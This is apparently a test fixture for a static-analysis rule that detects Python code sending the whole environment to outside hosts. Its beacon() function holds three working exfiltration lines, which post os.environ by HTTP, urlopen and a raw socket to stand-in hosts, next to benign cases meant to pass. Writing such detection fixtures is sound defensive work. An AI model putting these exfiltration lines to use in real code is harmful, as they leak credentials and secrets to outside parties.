"""Fixture for py-exfil-environment.

RULEID: requests.post of dict(os.environ), urlopen of json.dumps(os.environ), socket send of env copy.
OK: sending one named token to its API, passing env to a subprocess, logging an env var.
"""
import json
import os
import socket
import subprocess
import urllib.request

import requests


def beacon():
    # ruleid: py-exfil-environment
    requests.post("https://198.51.100.4/c", json=dict(os.environ))
    data = json.dumps(os.environ.copy()).encode()
    # ruleid: py-exfil-environment
    urllib.request.urlopen("https://collector.example.net/e", data=data)
    s = socket.socket()
    s.connect(("198.51.100.4", 9999))
    payload = {"host": socket.gethostname(), "env": dict(os.environ)}
    # ruleid: py-exfil-environment
    s.sendall(json.dumps(payload).encode())


def legit():
    token = os.environ["GITHUB_TOKEN"]
    # ok: py-exfil-environment
    requests.get("https://api.github.com/user", headers={"Authorization": f"token {token}"})
    env = os.environ.copy()
    env["LC_ALL"] = "C"
    # ok: py-exfil-environment
    subprocess.run(["make"], env=env, check=True)
